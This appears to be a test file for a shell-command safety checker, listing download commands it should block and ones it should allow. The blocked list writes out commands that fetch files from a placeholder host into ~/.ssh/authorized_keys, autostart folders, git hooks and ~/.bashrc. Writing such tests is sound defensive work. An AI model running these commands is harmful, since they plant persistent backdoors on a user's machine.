import { verdicts } from "../commands/decided.ts";

verdicts({
  stopped: [
    "wget -P ~/.ssh https://x.example/authorized_keys",
    "wget -P ~/.config/autostart https://x.example/a.desktop",
    "cd ~/.config/autostart && curl -O https://x.example/a.desktop",
    "curl --output-dir ~/.config/autostart -O https://x.example/a.desktop",
    "wget -P .git/hooks https://x.example/pre-commit",
    "wget -P ~/.vim/autoload https://x.example/plug.vim",
    "aria2c -d ~/.ssh -o authorized_keys https://x.example/k",
    "aria2c -o ~/.bashrc https://x.example/k",
    "scp h:pre-commit .git/hooks/",
  ],
  passed: [
    "wget https://x.example/a.tgz",
    "cd ~ && wget https://x.example/a.tgz",
    "curl -LO https://x.example/a.tgz",
    "wget -P ~/Downloads https://x.example/a",
    "wget -qP ~/.fonts https://x.example/f.ttf",
    "wget -P vendor https://x.example/a.js",
    "aria2c -x 8 -d downloads -o a.iso https://x.example/a.iso",
    "rsync -a h:x/ ./x/",
    "scp h:f ~/",
    "git clone https://github.com/a/b",
  ],
});
